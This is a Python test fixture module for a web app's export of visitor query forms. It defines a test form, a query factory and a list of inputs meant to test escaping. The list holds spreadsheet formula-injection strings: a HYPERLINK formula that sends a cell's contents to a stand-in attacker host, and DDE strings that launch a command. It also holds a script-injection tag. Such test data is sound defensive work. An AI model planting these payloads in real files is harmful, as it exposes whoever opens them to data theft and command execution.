"""Queries as the store yields them for files."""

from datetime import UTC, datetime

from app.forms.declaration import EMAIL, MESSAGE, NAME, PHONE, Form
from app.queries.models import Query

FORM = Form(
    kind="own",
    page="/own",
    list_name="own",
    title="Own Query",
    heading="Own Query Data",
    icon="mail",
    purpose="Send a query of the tests",
    fields=(NAME, EMAIL, PHONE, MESSAGE),
)
"""A form of the tests' own: what is declared for visitors may change."""
PAYLOADS = [
    '=HYPERLINK("https://evil.example?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    '";=1+1',
    "<script>alert(1)</script>",
    'first line\nsecond, with "quotes"; and पूजा 🙂',
    "control \x01 and _x0041_",
]
"""What a spreadsheet might run, or a file might not hold."""


def query(number: int = 0, /, **changes: object) -> Query:
    """A query as the store yields it for a file."""
    values: dict[str, object] = {
        "id": f"{number:024x}",
        "kind": FORM.kind,
        "name": f"Visitor {number}",
        "email": "asha@example.in",
        "phone": "+919876543210",
        "message": None,
        "created_at": datetime(2026, 4, 15, 20, 30, 5, 999, tzinfo=UTC),
        "seen_at": None,
        "suspected": False,
        "notice_version": "2026-04",
    }
    return Query(**(values | changes))
